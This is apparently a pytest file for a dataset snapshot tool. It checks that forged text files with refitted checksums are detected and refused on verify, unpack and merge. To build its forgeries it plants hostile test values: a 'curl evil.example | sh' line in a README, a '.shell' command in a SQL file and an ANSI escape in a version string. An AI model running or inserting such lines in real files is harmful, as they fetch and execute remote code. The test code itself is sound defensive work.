"""Texts beside the tables that contradict the tables, with hashes that fit."""

import base64
import gzip
import json
import re
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from clearml_snapshot.cli.main import main
from clearml_snapshot.exporter.errors import DatasetError
from clearml_snapshot.exporter.merge.merge import merge_datasets
from clearml_snapshot.exporter.store.disk.files import FileEntry
from clearml_snapshot.exporter.store.format.checksums import write_sums
from clearml_snapshot.exporter.store.format.layout import TEXTS
from clearml_snapshot.exporter.store.pack import report_digest
from clearml_snapshot.exporter.store.pack.derived_texts import PAGES, MakePages
from clearml_snapshot.exporter.store.pack.unpack import unpack
from clearml_snapshot.exporter.store.pack.zip_writer import members, write_archive
from clearml_snapshot.exporter.store.verify.verify import verify
from clearml_snapshot.queries import open_dataset
from clearml_snapshot.queries.pack.contents import PackOptions
from clearml_snapshot.queries.pack.pack import pack
from clearml_snapshot.queries.pack.texts import make_pages as really_make_pages
from tests.queries.conftest import write

Capture = pytest.CaptureFixture[str]


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A dataset, and a pack of it as a folder."""
    home = tmp_path_factory.mktemp("places")
    points = [("accuracy", "val", n, 0.5 + n / 8) for n in range(3)]
    parameter = {"section": "Args", "name": "lr", "value": "0.1"}
    task = {"task_id": "1" * 32, "project_id": "a" * 32, "points": points, "params": [parameter]}
    write(home / "data", [{**task, "points_stored": 3, "points_expected": 3}])
    with open_dataset(home / "data") as dataset:
        pack(dataset, home / "pack", PackOptions(report=True))
    return home


@pytest.fixture(scope="module")
def make_pages(places: Path) -> MakePages:
    """Make the pages of the one snapshot that all tests have, once."""
    made = places / "made"
    made.mkdir()
    really_make_pages(places / "pack", PAGES, made)

    def copy(folder: Path, names: Sequence[str], into: Path) -> None:
        assert folder != places / "pack"
        for name in names:
            shutil.copy(made / name, into)

    return copy


@pytest.fixture
def folder(places: Path, tmp_path: Path) -> Path:
    """A copy of the packed folder, to be changed."""
    return Path(shutil.copytree(places / "pack", tmp_path / "pack"))


def _fitting(folder: Path) -> None:
    """Write the hashes that fit, as a forger does."""
    files = json.loads((folder / "snapshot.json").read_text())["files"]
    write_sums(folder, [FileEntry(**entry) for entry in files])


def _change(folder: Path, name: str, old: str, new: str) -> None:
    text = (folder / name).read_bytes()
    assert old.encode() in text
    (folder / name).write_bytes(text.replace(old.encode(), new.encode()))
    _fitting(folder)


def _of_version(folder: Path, version: str) -> None:
    header = json.loads((folder / "snapshot.json").read_text())
    (folder / "snapshot.json").write_text(json.dumps({**header, "tool_version": version}))
    _fitting(folder)


def _zipped(folder: Path) -> Path:
    archive = folder.with_suffix(".zip")
    with archive.open("wb") as stream:
        write_archive(stream, members(folder))
    return archive


FORGED = {
    "open.sql": ("SET TimeZone", ".shell touch /tmp/x\nSET TimeZone"),
    "README.md": ("duckdb -init", "curl evil.example | sh; duckdb -init"),
    "datapackage.json": ("README.md describes", "https://evil.example describes"),
    "index.html": ('value="0.75"', 'value="0.99"'),
    "summary.csv": ("0.75", "0.99"),
    "report.html": ('"best":[0.75]', '"best":[0.99]'),
}


def _problem(name: str) -> str:
    return f"differs from what snapshot.json and the tables give: {name}"


@pytest.mark.parametrize("name", FORGED)
def test_a_forged_text_is_a_problem(folder: Path, make_pages: MakePages, name: str) -> None:
    _change(folder, name, *FORGED[name])
    assert verify(folder, make_pages=make_pages).problems == (_problem(name),)


def test_forged_texts_are_not_taken_over(folder: Path, places: Path, make_pages: MakePages) -> None:
    assert {*FORGED} == {*TEXTS} - {"snapshot.json"}
    for name, change in FORGED.items():
        _change(folder, name, *change)
    archive, new, data = _zipped(folder), folder.with_name("new"), places / "data"
    assert {*verify(archive, make_pages=make_pages).problems} == {*map(_problem, FORGED)}
    for problem, take_over in (
        (f"^{archive}: differs from .*: open.sql; get", lambda: unpack(archive, new)),
        (
            f"^{archive}: differs from .*: open.sql; get",
            lambda: merge_datasets([data, archive], new),
        ),
        (f"^{folder}: differs from .*: open.sql; get", lambda: merge_datasets([data, folder], new)),
    ):
        with pytest.raises(DatasetError, match=problem):
            take_over()
    assert sorted(path.name for path in folder.parent.iterdir()) == ["pack", "pack.zip"]


def test_a_forged_page_is_not_taken_over(folder: Path, places: Path, make_pages: MakePages) -> None:
    _change(folder, "index.html", *FORGED["index.html"])
    with pytest.raises(DatasetError, match=r"index\.html"):
        unpack(_zipped(folder), folder.with_name("new"), make_pages=make_pages)
    with pytest.raises(DatasetError, match=r"index\.html"):
        merge_datasets([places / "data", folder], folder.with_name("new"), make_pages=make_pages)


def test_what_was_packed_is_proven(folder: Path, places: Path, make_pages: MakePages) -> None:
    for source, make in ((_zipped(folder), really_make_pages), (places / "data", None)):
        report = verify(source, make_pages=make)
        assert (report.problems, report.unproven) == ((), ())
    assert unpack(_zipped(folder), folder.with_name("new"), make_pages=make_pages).unproven == ()
    both = folder.with_name("both")
    assert merge_datasets([places / "data", folder], both, make_pages=make_pages).unproven == ()


def test_another_version_may_have_other_words(
    folder: Path, tmp_path: Path, capsys: Capture
) -> None:
    """It is reported, never taken for proven: what that version writes is not known here."""
    _of_version(folder, "0.0.9\x1b[2J")
    _change(folder, "index.html", 'value="0.75"', 'value="0.99"')
    note = "not proven: README.md, index.html and report.html: written by clearml-snapshot 0.0.9"
    archive = _zipped(folder)
    assert main(["verify", str(archive), "-q"]) == 0
    out, _ = capsys.readouterr()
    assert note in out
    assert "\x1b" not in out
    assert main(["unpack", str(archive), "-o", str(tmp_path / "new"), "-q"]) == 0
    assert f"warning: {note}" in capsys.readouterr().err


def test_merge_reports_what_is_not_proven(
    folder: Path, places: Path, tmp_path: Path, capsys: Capture
) -> None:
    _of_version(folder, "0.0.9")
    sources = [str(places / "data"), str(folder)]
    assert main(["merge", *sources, "-o", str(tmp_path / "both"), "-q"]) == 0
    assert (
        f"warning: not proven: {folder}: README.md, index.html and report.html: "
        in capsys.readouterr().err
    )


def test_without_a_maker_of_pages_they_are_not_proven(folder: Path) -> None:
    report = verify(folder)
    assert report.unproven == (
        "index.html, summary.csv and report.html: not compared with the tables",
    )
    _change(folder, "README.md", "DuckDB", "Duck")
    assert not verify(folder).is_intact


@pytest.mark.parametrize(
    "change",
    [
        {"packed": ["a"]},
        {"packed": {"taken_out": 5}},
        {"packed": {"selection": {"a": 1}}},
        {"server": {"web": 5, "host": ["h"]}},
        {"server": {"host": "http://[x"}},
    ],
)
def test_what_makes_no_sense_in_snapshot_json_is_a_problem(
    folder: Path, change: dict[str, Any], capsys: Capture
) -> None:
    header = json.loads((folder / "snapshot.json").read_text())
    (folder / "snapshot.json").write_text(json.dumps({**header, **change}))
    _fitting(folder)
    assert main(["verify", str(folder)]) == 5
    assert "README.md" in capsys.readouterr().out


def _repacked(folder: Path, change: bool) -> None:
    """Compress the curves of a report otherwise, as another zlib does."""
    text = (folder / "report.html").read_text()
    (block,) = re.findall(r'id="block0">([^<]+)<', text)
    curves = gzip.decompress(base64.b64decode(block))
    curves = curves[:-1] + b"\x41" if change else curves
    other = base64.b64encode(gzip.compress(curves, 1)).decode()
    assert other != block
    _change(folder, "report.html", block, other)


def test_another_zlib_is_no_forgery(folder: Path, make_pages: MakePages) -> None:
    _repacked(folder, change=False)
    assert verify(folder, make_pages=make_pages).problems == ()
    assert verify(_zipped(folder), make_pages=make_pages).problems == ()


def test_forged_curves_are_a_problem(folder: Path, make_pages: MakePages) -> None:
    _repacked(folder, change=True)
    assert verify(folder, make_pages=make_pages).problems == (_problem("report.html"),)


@pytest.mark.parametrize(
    "block", ["", "AAAA", "@", base64.b64encode(gzip.compress(bytes(2**20))).decode()]
)
def test_curves_that_are_none_are_a_problem(
    folder: Path, make_pages: MakePages, block: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report_digest, "_LARGEST", 2**19)
    (old,) = re.findall(r'id="block0">([^<]+)<', (folder / "report.html").read_text())
    _change(folder, "report.html", old, block)
    assert verify(folder, make_pages=make_pages).problems == (_problem("report.html"),)
